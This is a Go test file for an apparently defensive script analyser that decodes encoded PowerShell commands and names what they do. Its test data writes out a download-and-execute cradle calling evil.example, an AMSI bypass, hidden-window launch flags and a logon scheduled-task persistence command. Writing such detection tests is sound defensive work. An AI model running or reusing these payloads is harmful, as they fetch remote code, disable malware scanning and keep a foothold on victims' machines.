package chat

import (
	"encoding/base64"
	"strings"
	"testing"
	"unicode/utf16"
)

func encodeCommand(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// An -EncodedCommand payload is decoded as PowerShell does (base64 of
// UTF-16LE), split into statements, and each behaviour is named with the
// line it is on; the outer command line's flags count too.
func TestScriptAnalysis(t *testing.T) {
	inner := "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1'); [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"
	prompt := "decode this script: powershell.exe -nop -w hidden -enc " + encodeCommand(inner)
	r, ok := MatchScript(prompt)
	if !ok {
		t.Fatal("not recognised")
	}
	if len(r.Decoded) != 1 || r.Decoded[0] != inner {
		t.Fatalf("decoded %q", r.Decoded)
	}
	if len(r.Lines) != 2 {
		t.Fatalf("statements %q", r.Lines)
	}
	want := map[string]int{"download cradle": 1, "Invoke-Expression": 1, "AMSI bypass": 2, "hidden window": 0, "policy bypass or no profile": 0}
	for what, line := range want {
		found := false
		for _, f := range r.Finds {
			if strings.Contains(f.Behavior, what) && f.Line == line {
				found = true
			}
		}
		if !found {
			t.Errorf("no %q on line %d: %+v", what, line, r.Finds)
		}
	}
	if s := r.String(); !strings.Contains(s, "line 2: AMSI bypass") || !strings.Contains(s, "nothing was run") {
		t.Errorf("report:\n%s", s)
	}
}

// Nested layers (FromBase64String inside the decoded text) are peeled;
// questions about data are not scripts.
func TestScriptLayersAndNonScripts(t *testing.T) {
	inner2 := "schtasks /create /tn upd /tr calc.exe /sc onlogon"
	outer := "$s=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('" + base64.StdEncoding.EncodeToString([]byte(inner2)) + "')); iex $s"
	r, ok := MatchScript("powershell -e " + encodeCommand(outer))
	if !ok || len(r.Decoded) != 2 || r.Decoded[1] != inner2 {
		t.Fatalf("layers: %v %+v", ok, r)
	}
	if !strings.Contains(r.String(), "persistence") {
		t.Errorf("the inner layer's persistence is not found:\n%s", r)
	}
	for _, p := range []string{"show me high-severity incidents from the past week", "which devices ran powershell with an encoded command", "analyze the sign-ins of megan.bowen"} {
		if _, ok := MatchScript(p); ok {
			t.Errorf("%q read as a script", p)
		}
	}
}
